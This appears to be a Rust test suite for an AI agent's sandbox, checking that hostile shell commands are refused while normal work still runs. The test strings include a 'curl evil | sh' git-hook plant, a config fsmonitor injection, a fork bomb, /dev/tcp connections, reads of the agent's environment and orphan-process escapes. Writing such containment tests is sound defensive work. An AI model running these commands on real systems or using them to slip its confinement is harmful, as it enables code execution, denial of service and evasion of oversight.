//! The sandbox and process containment, through the real launcher (the
//! built `agent` binary) on the real kernel: what a hostile command tries
//! (write outside, plant `.git/hooks`, chmod, connect to a Unix socket or a
//! TCP port, read the agent's environment, open `/dev/tty`, fork-bomb,
//! leave `setsid` orphans behind, outlive a `kill -9` of the agent) fails,
//! while ordinary work (writes in the workspace and `$TMPDIR`, reads,
//! exit codes, pipes) is unchanged.
//!
//! Each confinement test first asks the probe whether the layer exists on
//! this kernel; where it does not, the test checks the reported state
//! instead and says so on stderr. `AGENT_TEST_REQUIRE_SANDBOX=1` turns a
//! missing layer into a failure, for machines known to have them all.

use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use agent::runtime::process::{self, CommandSpec, Ended, Outcome};
use agent::runtime::sandbox::{self, Sandbox, SandboxReport, SandboxSettings};
use agent::runtime::{Confinement, How, RunError, Runtime};
use tokio_util::sync::CancellationToken;

use crate::common::mock::{MockServer, Reply, Shape};
use crate::common::{Dirs, STEP_TIMEOUT, agent_command, output, stderr};

/// The variable that makes a missing layer a test failure.
const REQUIRE_SANDBOX: &str = "AGENT_TEST_REQUIRE_SANDBOX";

/// How long a killed tree may take to disappear from `/proc`.
const GONE_DEADLINE: Duration = Duration::from_secs(10);

fn launcher() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_agent"))
}

pub(crate) fn report() -> SandboxReport {
    sandbox::probe(&launcher())
}

/// Whether every layer the test needs is there. When one is not, says so
/// on stderr (the test then checks the report), or fails when required.
pub(crate) fn layers_present(test: &str, report: &SandboxReport, network: bool) -> bool {
    let missing = report.missing_required(network);
    if missing.is_empty() {
        return true;
    }
    assert!(
        std::env::var_os(REQUIRE_SANDBOX).is_none(),
        "{REQUIRE_SANDBOX} is set but layers are missing: {missing:?}"
    );
    eprintln!(
        "note: {test}: missing here: {}; checked the report only, enforcement was NOT tested",
        missing.join(", ")
    );
    false
}

/// Commands of this test process share one pids budget once the spawner
/// thread runs (it is started by one test and stays for the rest): a fork
/// bomb fills it, so a command started beside one could not fork. Tests
/// share this lock; the fork-bomb tests take it alone.
static PIDS_BUDGET: std::sync::RwLock<()> = std::sync::RwLock::new(());

#[allow(dead_code)]
enum Budget {
    Shared(std::sync::RwLockReadGuard<'static, ()>),
    Alone(std::sync::RwLockWriteGuard<'static, ()>),
}

impl Budget {
    fn shared() -> Budget {
        Budget::Shared(PIDS_BUDGET.read().unwrap_or_else(|e| e.into_inner()))
    }

    fn alone() -> Budget {
        Budget::Alone(PIDS_BUDGET.write().unwrap_or_else(|e| e.into_inner()))
    }
}

/// A workspace and a private temp dir, and the session sandbox over them.
struct Setup {
    _budget: Budget,
    _root: tempfile::TempDir,
    workspace: PathBuf,
    temp: PathBuf,
    sandbox: Sandbox,
}

fn setup_with(settings: SandboxSettings) -> Setup {
    setup_holding(settings, Budget::shared())
}

/// A setup whose commands run alone in this process (fork bombs).
fn setup_alone(settings: SandboxSettings) -> Setup {
    setup_holding(settings, Budget::alone())
}

fn setup_holding(settings: SandboxSettings, budget: Budget) -> Setup {
    setup_prepared(settings, budget, |_| {})
}

/// A setup whose workspace `prepare` fills before the session's sandbox
/// is made (it looks at the repository then).
fn setup_prepared(settings: SandboxSettings, budget: Budget, prepare: impl FnOnce(&Path)) -> Setup {
    let root = tempfile::tempdir().expect("root");
    let workspace = root.path().join("ws");
    let temp = root.path().join("tmp");
    std::fs::create_dir_all(workspace.join(".git/hooks")).unwrap();
    std::fs::write(workspace.join(".git/config"), "[core]\n").unwrap();
    prepare(&workspace);
    std::fs::create_dir_all(&temp).unwrap();
    let sandbox = Sandbox::for_session(launcher(), &settings, &report(), &workspace, &temp, &[]);
    Setup {
        _budget: budget,
        _root: root,
        workspace,
        temp,
        sandbox,
    }
}

fn setup() -> Setup {
    setup_with(SandboxSettings::default())
}

/// A directory outside every writable dir: under cargo's target dir.
pub(crate) fn outside_dir() -> tempfile::TempDir {
    tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).expect("tempdir in target")
}

fn spec(command: &str, s: &Setup) -> CommandSpec {
    CommandSpec {
        command: command.to_string(),
        cwd: s.workspace.clone(),
        env: vec![
            ("PATH".into(), std::env::var("PATH").unwrap_or_default()),
            ("TMPDIR".into(), s.temp.display().to_string()),
        ],
        timeout: Duration::from_secs(20),
        inactivity_timeout: Duration::from_secs(20),
        kill_grace: Duration::from_millis(500),
        output_cap: 30_000,
        spill_dir: s.temp.join("spill-not-used"),
        label: "call-1".into(),
        spill_cap: agent::runtime::spill::DEFAULT_SPILL_CAP,
        sandbox: Some(s.sandbox.clone()),
        redactor: None,
        live: None,
    }
}

async fn run_spec(spec: CommandSpec, cancel: CancellationToken) -> Outcome {
    tokio::time::timeout(STEP_TIMEOUT, process::run(spec, cancel))
        .await
        .expect("the command finished in time")
        .expect("the command started")
}

async fn run(command: &str, s: &Setup) -> Outcome {
    run_spec(spec(command, s), CancellationToken::new()).await
}

pub(crate) fn quote(path: &Path) -> String {
    format!("'{}'", path.display())
}

/// A marker unique to this test run, for finding processes by argv.
pub(crate) fn marker(n: u32) -> String {
    format!("{n}.{}", std::process::id())
}

/// Live processes whose argv contains `needle` (zombies have none).
pub(crate) fn with_argv(needle: &str) -> Vec<String> {
    let Ok(entries) = std::fs::read_dir("/proc") else {
        return Vec::new();
    };
    entries
        .flatten()
        .filter_map(|e| {
            let argv = std::fs::read(e.path().join("cmdline")).ok()?;
            let argv = String::from_utf8_lossy(&argv).replace('\0', " ");
            argv.contains(needle)
                .then(|| format!("{}: {argv}", e.file_name().to_string_lossy()))
        })
        .collect()
}

pub(crate) async fn wait_until(what: &str, mut done: impl FnMut() -> bool) {
    let deadline = Instant::now() + GONE_DEADLINE;
    while !done() {
        assert!(Instant::now() < deadline, "timed out waiting: {what}");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

pub(crate) async fn assert_none_left(needle: &str) {
    wait_until(&format!("processes with {needle} to die"), || {
        with_argv(needle).is_empty()
    })
    .await;
}

fn refused(out: &Outcome) -> bool {
    let e = &out.stderr.text;
    out.exit_code != Some(0)
        && (e.contains("Permission denied")
            || e.contains("Read-only file system")
            || e.contains("Operation not permitted")
            || e.contains("Device or resource busy"))
}

#[tokio::test]
async fn writes_inside_the_workspace_and_tmpdir_succeed() {
    let s = setup();
    let out = run(
        "echo one > f && mkdir -p d/e && mv f d/e/g && ln -s d/e/g link && cat link \
         && rm -r d link && echo kept > kept && truncate -s 2 kept && chmod 600 kept \
         && touch -d 2001-01-01 kept && t=$(mktemp) && echo x > \"$t\" && rm \"$t\" \
         && echo quiet > /dev/null && echo done",
        &s,
    )
    .await;
    assert_eq!(
        (out.exit_code, out.stderr.text.as_str()),
        (Some(0), ""),
        "{out:?}"
    );
    assert_eq!(out.stdout.text, "one\ndone\n");
    assert_eq!(
        std::fs::read_to_string(s.workspace.join("kept")).unwrap(),
        "ke"
    );
}

#[tokio::test]
async fn writes_chmod_and_utime_outside_fail() {
    let s = setup();
    let on = layers_present("writes_outside", &report(), false);
    let outside = outside_dir();
    let existing = outside.path().join("existing");
    std::fs::write(&existing, "original").unwrap();
    std::fs::write(s.workspace.join("mine"), "mine").unwrap();
    let o = quote(outside.path());
    let attempts = [
        format!("echo x > {o}/new"),
        format!("echo x >> {o}/existing"),
        format!("truncate -s 0 {o}/existing"),
        format!("rm {o}/existing"),
        format!("mv {o}/existing ./stolen"),
        format!("mkdir {o}/dir"),
        format!("ln -s /etc/passwd {o}/link"),
        format!("mv mine {o}/moved"),
        format!("chmod 777 {o}/existing"),
        format!("chown 12345 {o}/existing"),
        format!("touch -d 2001-01-01 {o}/existing"),
        // /tmp is not the private temp dir: outside too.
        "echo x > /tmp/agent-sandbox-test-escape".to_string(),
        // Grandchildren inherit every layer.
        format!("sh -c 'echo x > {o}/from-grandchild'"),
    ];
    let before = std::fs::metadata(&existing).unwrap();
    for command in &attempts {
        let out = run(command, &s).await;
        if on {
            assert!(refused(&out), "{command} was not refused: {out:?}");
        }
    }
    if on {
        let left: Vec<String> = std::fs::read_dir(outside.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        assert_eq!(left, ["existing"]);
        assert_eq!(std::fs::read_to_string(&existing).unwrap(), "original");
        let after = std::fs::metadata(&existing).unwrap();
        use std::os::unix::fs::MetadataExt;
        assert_eq!(
            (after.mode(), after.uid(), after.mtime()),
            (before.mode(), before.uid(), before.mtime())
        );
        assert!(!Path::new("/tmp/agent-sandbox-test-escape").exists());
        assert!(s.workspace.join("mine").exists());
    }
}

#[tokio::test]
async fn git_hooks_and_config_are_read_only_inside_a_writable_workspace() {
    let s = setup();
    let on = layers_present("git_read_only", &report(), false);
    let attempts = [
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "chmod +x .git/hooks",
        "echo '[core] fsmonitor = evil' >> .git/config",
        "rm .git/config",
        "mv .git/config .git/old",
        "rm -r .git/hooks",
        // Renaming .git away to replace it with a copy with writable hooks.
        "mv .git .git-away",
    ];
    for command in attempts {
        let out = run(command, &s).await;
        if on {
            assert!(refused(&out), "{command} was not refused: {out:?}");
        }
    }
    // Elsewhere in the workspace, and in .git itself, writing works.
    let out = run(
        "echo ok > .git/HEAD-test && echo ok > src.txt && cat src.txt",
        &s,
    )
    .await;
    assert_eq!(
        (out.exit_code, out.stdout.text.as_str()),
        (Some(0), "ok\n"),
        "{out:?}"
    );
    if on {
        assert_eq!(
            std::fs::read_to_string(s.workspace.join(".git/config")).unwrap(),
            "[core]\n"
        );
        assert!(!s.workspace.join(".git/hooks/pre-commit").exists());
    }
}

#[tokio::test]
async fn submodules_hooks_and_config_are_read_only_and_cannot_be_renamed_away() {
    let s = setup_prepared(SandboxSettings::default(), Budget::shared(), |ws| {
        // A submodule `lib` and one named `libs/json` (names nest).
        for dir in [".git/modules/lib", ".git/modules/libs/json"] {
            std::fs::create_dir_all(ws.join(dir).join("hooks")).unwrap();
            std::fs::write(ws.join(dir).join("HEAD"), "ref: refs/heads/main\n").unwrap();
            std::fs::write(ws.join(dir).join("config"), "[core]\n").unwrap();
        }
    });
    let on = layers_present("git_read_only", &report(), false);
    let attempts = [
        "echo evil > .git/modules/lib/hooks/post-checkout",
        "echo '[core] fsmonitor = evil' >> .git/modules/lib/config",
        "echo evil > .git/modules/libs/json/hooks/post-checkout",
        "echo '[core] fsmonitor = evil' >> .git/modules/libs/json/config",
        // Renamed away with its mounts, then made again with writable hooks.
        "mv .git/modules .git/modules-away",
        "mv .git/modules/lib .git/modules/lib-away",
        "mv .git/modules/libs .git/modules/libs-away",
        "mv .git/modules/libs/json .git/modules/libs/json-away",
    ];
    for command in attempts {
        let out = run(command, &s).await;
        if on {
            assert!(refused(&out), "{command} was not refused: {out:?}");
        }
    }
    // What git writes in a submodule's git directory still works.
    let out = run(
        "echo ok > .git/modules/lib/index && echo ok > .git/modules/libs/json/ORIG_HEAD && echo done",
        &s,
    )
    .await;
    assert_eq!(
        (out.exit_code, out.stdout.text.as_str()),
        (Some(0), "done\n"),
        "{out:?}"
    );
    if on {
        for dir in [".git/modules/lib", ".git/modules/libs/json"] {
            let ws = &s.workspace;
            assert_eq!(
                std::fs::read_to_string(ws.join(dir).join("config")).unwrap(),
                "[core]\n"
            );
            assert!(!ws.join(dir).join("hooks/post-checkout").exists());
            assert!(ws.join(dir).join("HEAD").exists(), "{dir} was moved");
        }
    }
}

#[tokio::test]
async fn reads_and_execution_outside_still_work() {
    let s = setup();
    let outside = outside_dir();
    std::fs::write(outside.path().join("notes"), "readable\n").unwrap();
    let o = quote(outside.path());
    let out = run(
        &format!("cat {o}/notes && ls {o} && test -r /etc/passwd && /bin/true && echo ran"),
        &s,
    )
    .await;
    assert_eq!(out.exit_code, Some(0), "{}", out.stderr.text);
    assert_eq!(out.stdout.text, "readable\nnotes\nran\n");
}

/// Connects to a pathname Unix socket with perl; prints "connected".
pub(crate) fn unix_connect(path: &Path) -> String {
    format!(
        "perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => $ARGV[0]) or die \"connect: $!\\n\"; print \"connected\\n\"' {}",
        quote(path)
    )
}

#[tokio::test]
async fn unix_socket_connect_fails_unless_the_network_is_on() {
    let report = report();
    let on = layers_present("unix_socket", &report, false);
    let outside = outside_dir();
    let path = outside.path().join("agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path).unwrap();
    listener.set_nonblocking(true).unwrap();

    let s = setup();
    let out = run(&unix_connect(&path), &s).await;
    if on {
        assert_ne!(out.exit_code, Some(0), "{out:?}");
        assert!(out.stderr.text.contains("connect: "), "{out:?}");
        assert!(listener.accept().is_err(), "a connection got through");
    } else {
        assert!(report.seccomp.is_some() || report.namespaces.is_some());
    }

    // The same command with `network: true` connects: the tool works, and
    // the sandbox is what refused it above.
    drop(s); // one share of the pids budget at a time: see PIDS_BUDGET
    let open = setup_with(SandboxSettings {
        network: true,
        ..SandboxSettings::default()
    });
    let out = run(&unix_connect(&path), &open).await;
    assert_eq!(out.stdout.text, "connected\n", "{out:?}");
}

#[tokio::test]
async fn tcp_connect_to_localhost_fails_unless_the_network_is_on() {
    let report = report();
    let on = layers_present("tcp", &report, false);
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    listener.set_nonblocking(true).unwrap();
    let command = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");

    let s = setup();
    let out = run(&command, &s).await;
    if on {
        assert_ne!(out.exit_code, Some(0), "{out:?}");
        assert_eq!(out.stdout.text, "");
        assert!(listener.accept().is_err(), "a connection got through");
    }
    drop(s); // one share of the pids budget at a time: see PIDS_BUDGET
    let open = setup_with(SandboxSettings {
        network: true,
        ..SandboxSettings::default()
    });
    let out = run(&command, &open).await;
    assert_eq!(out.stdout.text, "connected\n", "{out:?}");
}

#[tokio::test]
async fn a_command_cannot_see_the_agent_or_read_its_environment() {
    let report = report();
    let s = setup();
    let me = std::process::id();
    let out = run(
        &format!(
            "test -e /proc/{me} && echo visible; cat /proc/{me}/environ >/dev/null 2>&1 && echo read; \
             kill -0 {me} 2>/dev/null && echo signalled; ls /proc | grep -c '^[0-9]'"
        ),
        &s,
    )
    .await;
    if report.namespaces.is_none() {
        let lines: Vec<&str> = out.stdout.text.lines().collect();
        // Only the namespace's own processes: the init, bash, ls, grep.
        assert_eq!(lines.len(), 1, "{out:?}");
        let count: u32 = lines[0].parse().unwrap();
        assert!(count <= 5, "{count} processes visible");
    } else {
        eprintln!("note: agent_environ: no namespaces here; checked the report only");
    }
}

#[tokio::test]
async fn dev_tty_cannot_be_opened() {
    let s = setup();
    let out = run("exec 3<>/dev/tty && echo opened", &s).await;
    assert_ne!(out.exit_code, Some(0), "{out:?}");
    assert_eq!(out.stdout.text, "");
    assert!(out.stderr.text.contains("No such device"), "{out:?}");
}

/// A command that leaves three kinds of processes behind: a plain
/// background job, a double-forked one, and one in its own session.
fn escaping_tree(m: &str) -> String {
    format!("(sleep {m}1 &); setsid sleep {m}2 & sleep {m}3 & echo started; wait")
}

#[tokio::test]
async fn setsid_and_double_forked_grandchildren_die_on_timeout() {
    let s = setup();
    let m = marker(3101);
    let mut spec = spec(&escaping_tree(&m), &s);
    spec.timeout = Duration::from_millis(1500);
    let out = run_spec(spec, CancellationToken::new()).await;
    assert_eq!(out.ended, Ended::TimedOut, "{out:?}");
    assert_eq!(out.stdout.text, "started\n");
    assert_none_left(&m).await;
}

#[tokio::test]
async fn setsid_and_double_forked_grandchildren_die_on_cancel() {
    let s = setup();
    let m = marker(3201);
    let cancel = CancellationToken::new();
    let run = tokio::spawn(run_spec(spec(&escaping_tree(&m), &s), cancel.clone()));
    let needle = format!("sleep {m}2");
    wait_until("the tree to start", || !with_argv(&needle).is_empty()).await;
    cancel.cancel();
    let out = tokio::time::timeout(STEP_TIMEOUT, run)
        .await
        .unwrap()
        .unwrap();
    assert_eq!(out.ended, Ended::Cancelled);
    assert_none_left(&m).await;
}

#[tokio::test]
async fn dropping_the_run_kills_the_tree() {
    let s = setup();
    let m = marker(3301);
    let fut = tokio::spawn(run_spec(
        spec(&escaping_tree(&m), &s),
        CancellationToken::new(),
    ));
    let needle = format!("sleep {m}2");
    wait_until("the tree to start", || !with_argv(&needle).is_empty()).await;
    fut.abort();
    assert_none_left(&m).await;
}

#[tokio::test]
async fn background_processes_end_with_their_command() {
    let s = setup();
    let m = marker(3401);
    let out = run(
        &format!("setsid sleep {m} > /dev/null 2>&1 & echo done"),
        &s,
    )
    .await;
    assert_eq!(
        (out.exit_code, out.stdout.text.as_str()),
        (Some(0), "done\n")
    );
    assert_none_left(&m).await;
}

#[tokio::test]
async fn a_fork_bomb_is_a_clear_failure_and_leaves_nothing_running() {
    let s = setup_alone(SandboxSettings {
        max_processes: 64,
        ..SandboxSettings::default()
    });
    fork_bomb_is_stopped(&s, marker(3501)).await;
}

/// The same through the spawner thread's shared cgroup (the session's
/// path under cgroup v1, started for every later test of this process
/// too): the bomb is stopped, and the next command neither inherits the
/// bomb's refused forks as its own nor lacks room to start.
#[tokio::test]
async fn a_fork_bomb_in_the_spawners_cgroup_is_stopped_and_the_next_command_runs() {
    sandbox::spawner::start();
    let s = setup_alone(SandboxSettings {
        max_processes: 64,
        ..SandboxSettings::default()
    });
    fork_bomb_is_stopped(&s, marker(3502)).await;
    let out = run("echo after", &s).await;
    assert_eq!(
        (out.exit_code, out.stdout.text.as_str()),
        (Some(0), "after\n"),
        "{out:?}"
    );
    assert!(
        !out.stderr
            .text
            .contains(&sandbox::process_limit_message(64)),
        "{out:?}"
    );
}

async fn fork_bomb_is_stopped(s: &Setup, m: String) {
    let command = format!("bomb() {{ bomb | bomb & }}; bomb; sleep 60 # {m}");
    let out = run(&command, s).await;
    // Never "ok": either the init's count stopped it at the limit (the
    // usual case, with the message), or the kernel's task limit held it
    // until the wall clock did.
    assert_ne!(out.exit_code, Some(0), "{out:?}");
    if out.ended == Ended::Exited {
        assert_eq!(
            out.exit_code,
            Some(i32::from(sandbox::PROCESS_LIMIT_EXIT)),
            "{out:?}"
        );
        assert!(
            out.stderr
                .text
                .contains(&sandbox::process_limit_message(64)),
            "{}",
            out.stderr.text
        );
    } else {
        assert_eq!(out.ended, Ended::TimedOut, "{out:?}");
        eprintln!(
            "note: fork bomb: held by RLIMIT_NPROC until the timeout, not stopped at the count"
        );
    }
    assert_none_left(&m).await;
}

#[tokio::test]
async fn the_memory_limit_stops_a_large_allocation() {
    let s = setup_with(SandboxSettings {
        max_memory_mb: 64,
        ..SandboxSettings::default()
    });
    let out = run(
        "x=$(head -c 300000000 /dev/zero | tr '\\0' a); echo ${#x}",
        &s,
    )
    .await;
    assert_ne!(out.stdout.text, "300000000\n", "{out:?}");
    assert_ne!(out.exit_code, Some(0), "{out:?}");
}

#[tokio::test]
async fn the_launcher_keeps_exit_codes_env_stdin_pipes_and_signals() {
    let s = setup();
    let out = run("echo out; echo err >&2; exit 3", &s).await;
    assert_eq!(
        (
            out.exit_code,
            out.stdout.text.as_str(),
            out.stderr.text.as_str()
        ),
        (Some(3), "out\n", "err\n")
    );
    let out = run("env | cut -d= -f1 | sort | tr '\\n' ' '; echo; cat", &s).await;
    assert_eq!(out.stdout.text, "PATH PWD SHLVL TMPDIR _ \n", "{out:?}");
    let out = run("echo -- --write /x --confine", &s).await;
    assert_eq!(out.stdout.text, "-- --write /x --confine\n");
    let out = run("yes | head -n 2", &s).await;
    assert_eq!(
        (out.exit_code, out.stdout.text.as_str()),
        (Some(0), "y\ny\n")
    );
    // A command killed by a signal is reported as killed by it.
    let out = run("kill -TERM $$", &s).await;
    assert_eq!(out.signal, Some(15), "{out:?}");

    let mut sp = spec("echo start; sleep 30", &s);
    sp.timeout = Duration::from_millis(500);
    let out = run_spec(sp, CancellationToken::new()).await;
    assert_eq!(out.ended, Ended::TimedOut);
    assert_eq!(out.stdout.text, "start\n");
    assert_eq!(out.signal, Some(15), "SIGTERM reached the command first");
}

#[tokio::test]
async fn a_missing_launcher_is_a_start_error() {
    let s = setup();
    let mut sp = spec("true", &s);
    sp.sandbox = Some(Sandbox::new(
        PathBuf::from("/nonexistent/agent"),
        Vec::new(),
    ));
    let result = tokio::time::timeout(STEP_TIMEOUT, process::run(sp, CancellationToken::new()))
        .await
        .unwrap();
    assert!(result.is_err());
}

#[tokio::test]
async fn the_launcher_reports_a_missing_program_like_a_shell() {
    let mut child = tokio::process::Command::new(launcher())
        .args(["sandbox-exec", "--", "/nonexistent/program"])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // The lifeline stays open, as the agent keeps it: its EOF would end
    // the namespace first.
    let lifeline = child.stdin.take();
    let out = tokio::time::timeout(STEP_TIMEOUT, child.wait_with_output())
        .await
        .unwrap()
        .unwrap();
    drop(lifeline);
    assert_eq!(out.status.code(), Some(127));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("cannot run /nonexistent/program"), "{err}");
}

fn runtime_for(s: &Setup, sandbox: Sandbox) -> Runtime {
    let env = vec![(
        "PATH".to_string(),
        std::env::var("PATH").unwrap_or_default(),
    )];
    Runtime::new(s.workspace.clone(), s.temp.join("spill"), env).with_sandbox(sandbox)
}

#[tokio::test]
async fn require_with_a_missing_layer_refuses_every_command() {
    // An injected probe result stands in for a kernel without Landlock.
    let s = setup();
    let no_landlock = SandboxReport {
        landlock_fs: Some("this kernel has no Landlock".into()),
        ..report()
    };
    let settings = SandboxSettings {
        mode: sandbox::SandboxMode::Require,
        ..SandboxSettings::default()
    };
    let sandbox = Sandbox::for_session(
        launcher(),
        &settings,
        &no_landlock,
        &s.workspace,
        &s.temp,
        &[],
    );
    let rt = runtime_for(&s, sandbox);
    let cancel = CancellationToken::new();
    let err = rt
        .run_command("echo x > ran", None, "c1", &cancel)
        .await
        .unwrap_err();
    let RunError::Denied(message) = err else {
        panic!("not a refusal: {err:?}");
    };
    assert!(
        message.contains("landlock fs (this kernel has no Landlock)"),
        "{message}"
    );
    assert!(!s.workspace.join("ran").exists());
}

#[tokio::test]
async fn one_command_can_leave_the_sandbox_and_stays_contained() {
    let s = setup();
    let rt = runtime_for(&s, s.sandbox.clone());
    let outside = outside_dir();
    let target = outside.path().join("let-out");
    let m = marker(3601);
    let command = format!(
        "echo x > {}; setsid sleep {m} > /dev/null 2>&1 & echo ok",
        quote(&target)
    );
    let cancel = CancellationToken::new();
    let out = rt
        .run_command_in(
            &command,
            None,
            "c1",
            &cancel,
            How {
                confinement: Confinement::Unsandboxed,
                live: None,
            },
        )
        .await
        .unwrap();
    assert_eq!(out.stdout.text, "ok\n", "{out:?}");
    assert!(
        target.exists(),
        "the unsandboxed command could not write outside"
    );
    assert_none_left(&m).await;
}

/// Runs the agent once with a model that asks for one shell command which
/// writes inside the workspace and outside it; returns the tool result and
/// whether the outside write happened.
async fn one_shot_write(policy: Option<&str>, args: &[&str]) -> (String, bool, String) {
    let dirs = Dirs::new();
    if let Some(policy) = policy {
        std::fs::write(dirs.config.join("policy.rhai"), policy).unwrap();
    }
    let outside = outside_dir();
    let target = outside.path().join("escaped");
    let command = format!("echo in > inside; echo out > {}", quote(&target));
    let call = serde_json::json!({ "command": command }).to_string();
    let server = MockServer::start(vec![
        Reply::tools(Shape::OpenAi, &[("c1", "run_shell", &call)]),
        Reply::text("done"),
    ])
    .await;
    let mut cmd = agent_command(&dirs, &server.base_url);
    // --yes: the default policy asks about the write outside the workspace;
    // this test is about what the sandbox lets through once it is approved.
    cmd.args(["-p", "write two files", "--yes"]).args(args);
    let out = output(cmd).await;
    assert_eq!(out.status.code(), Some(0), "stderr: {}", stderr(&out));
    server.assert_protocol();
    let sent = server.requests()[1].tool_result("c1").unwrap()["content"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(
        std::fs::read_to_string(dirs.workspace.join("inside")).unwrap(),
        "in\n"
    );
    (sent, target.exists(), stderr(&out))
}

#[tokio::test]
async fn by_default_the_cli_confines_run_shell() {
    let on = layers_present("cli_default", &report(), false);
    let (sent, escaped, err) = one_shot_write(None, &[]).await;
    if on {
        assert!(!escaped, "{sent}");
        assert!(
            sent.contains("Read-only file system") || sent.contains("Permission denied"),
            "{sent}"
        );
        assert!(!err.contains("missing"), "{err}");
    } else {
        assert!(
            err.contains("missing"),
            "the missing layer is reported: {err}"
        );
    }
}

#[tokio::test]
async fn sandbox_off_in_policy_lets_commands_write_anywhere() {
    let policy =
        include_str!("../scripts/policy.rhai").replace("sandbox: \"auto\"", "sandbox: \"off\"");
    assert!(policy.contains("sandbox: \"off\""));
    let (sent, escaped, _) = one_shot_write(Some(&policy), &[]).await;
    assert!(escaped, "{sent}");
}

/// Spawns the real agent on a model that runs `command`, waits for
/// `started` to appear among the processes, and SIGKILLs the agent.
#[tokio::test]
async fn no_process_of_the_turn_survives_kill_9_of_the_agent() {
    let dirs = Dirs::new();
    let m = marker(3701);
    let command = format!("(sleep {m}1 &) ; setsid sleep {m}2 & sleep {m}3");
    let call = serde_json::json!({ "command": command }).to_string();
    let server = MockServer::start(vec![
        Reply::tools(Shape::OpenAi, &[("c1", "run_shell", &call)]),
        Reply::text("done"),
    ])
    .await;
    let mut cmd = agent_command(&dirs, &server.base_url);
    cmd.args(["-p", "start a server"])
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null());
    let mut agent = cmd.spawn().unwrap();
    for n in 1..=3 {
        let needle = format!("sleep {m}{n}");
        wait_until(&needle, || !with_argv(&needle).is_empty()).await;
    }
    let pid = nix::unistd::Pid::from_raw(agent.id().unwrap() as i32);
    nix::sys::signal::kill(pid, nix::sys::signal::Signal::SIGKILL).unwrap();
    let _ = tokio::time::timeout(STEP_TIMEOUT, agent.wait())
        .await
        .unwrap();
    assert_none_left(&m).await;
}

#[tokio::test]
async fn the_sandbox_subcommands_are_hidden_from_help() {
    let dirs = Dirs::new();
    let mut cmd = agent_command(&dirs, "http://127.0.0.1:9/v1");
    cmd.arg("--help");
    let out = output(cmd).await;
    let help = String::from_utf8_lossy(&out.stdout);
    assert!(help.contains("--sandbox"), "{help}");
    assert!(!help.contains("sandbox-exec") && !help.contains("sandbox-probe"));
}

/// The model asks to leave the sandbox for one command (`sandbox: false`):
/// the default policy asks, so one-shot mode refuses without `--yes` and
/// nothing outside changes; with `--yes` that one command runs unconfined
/// (and the next one is confined again).
#[tokio::test]
async fn leaving_the_sandbox_is_asked_for_each_call() {
    let on = layers_present("leave_sandbox", &report(), false);
    for yes in [false, true] {
        let dirs = Dirs::new();
        let outside = outside_dir();
        let target = outside.path().join("escaped");
        let again = outside.path().join("again");
        let out_call = serde_json::json!({
            "command": format!("echo out > {}", quote(&target)),
            "sandbox": false,
        })
        .to_string();
        let confined_call =
            serde_json::json!({ "command": format!("echo out > {}", quote(&again)) }).to_string();
        let server = MockServer::start(vec![
            Reply::tools(
                Shape::OpenAi,
                &[
                    ("c1", "run_shell", &out_call),
                    ("c2", "run_shell", &confined_call),
                ],
            ),
            Reply::text("done"),
        ])
        .await;
        let mut cmd = agent_command(&dirs, &server.base_url);
        cmd.args(["-p", "write outside"]);
        if yes {
            cmd.arg("--yes");
        }
        let out = output(cmd).await;
        assert_eq!(out.status.code(), Some(0), "stderr: {}", stderr(&out));
        let result = |id: &str| {
            server.requests()[1].tool_result(id).unwrap()["content"]
                .as_str()
                .unwrap()
                .to_string()
        };
        let first = result("c1");
        if yes {
            assert!(target.exists(), "the approved command did not run: {first}");
            if on {
                assert!(!again.exists(), "the next command was not confined");
            }
        } else {
            assert!(!target.exists(), "{first}");
            assert!(
                first.starts_with("Denied: one-shot mode") && first.contains("outside the sandbox"),
                "{first}"
            );
        }
    }
}

/// `agent check` states the sandbox layer by layer, as this kernel has
/// them (each layer on its own line, "on" or "missing (why)"), and says
/// plainly when policy.rhai turns it off.
#[tokio::test]
async fn agent_check_shows_the_sandbox_layer_by_layer() {
    let dirs = Dirs::new();
    let check = |dirs: &Dirs| {
        let mut cmd = agent_command(dirs, "http://127.0.0.1:9/v1");
        cmd.arg("check");
        output(cmd)
    };
    let out = check(&dirs).await;
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    let summary = text
        .lines()
        .find(|l| l.starts_with("sandbox auto: "))
        .unwrap_or_else(|| panic!("no sandbox line in agent check:\n{text}"));
    let probed = report();
    for (name, missing) in probed.layers() {
        let expected = match missing {
            None => format!("  {name}: on"),
            Some(why) => format!("  {name}: missing ({why})"),
        };
        assert!(
            text.lines().any(|l| l == expected),
            "{expected:?} in:\n{text}"
        );
        if missing.is_some() {
            assert!(summary.contains(name), "{summary} names the missing {name}");
        }
    }
    if probed.layers().iter().all(|(_, m)| m.is_none()) {
        assert!(
            summary.contains(": on (") && summary.contains("network off"),
            "{summary}"
        );
    } else {
        eprintln!("agent_check: this kernel lacks layers; checked that the summary names them");
    }

    let policy =
        include_str!("../scripts/policy.rhai").replace("sandbox: \"auto\",", "sandbox: \"off\",");
    assert!(policy.contains("sandbox: \"off\","));
    std::fs::write(dirs.config.join("policy.rhai"), policy).unwrap();
    let out = check(&dirs).await;
    let text = String::from_utf8_lossy(&out.stdout).to_string();
    assert!(
        text.lines()
            .any(|l| l.starts_with("sandbox off: commands are not confined")),
        "{text}"
    );
}
